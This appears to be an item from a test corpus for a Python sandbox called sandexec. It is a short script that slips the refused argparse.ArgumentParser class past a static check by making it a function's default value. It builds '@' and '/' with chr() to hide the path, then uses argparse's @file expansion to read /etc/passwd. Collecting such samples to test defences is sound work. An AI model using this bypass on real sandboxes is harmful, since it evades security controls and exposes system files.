# source: Python function defaults are values handed back by the function; sandexec README, "The static check", (ArgumentParser as a value refused; 8th positional = fromfile_prefix_chars)
# family: class machinery: a refused library class as a def parameter's default, returned
# goal: reads /etc/passwd through argparse @file expansion
import argparse


def make(k=argparse.ArgumentParser):
    return k


K = make()
print("class:", K)
at = chr(64)
p = K("prog", None, None, None, [], argparse.HelpFormatter, "-", at)
p.add_argument("rest", nargs="*")
path = at + chr(47) + "etc" + chr(47) + "passwd"
print(p.parse_args([path]).rest[:5])
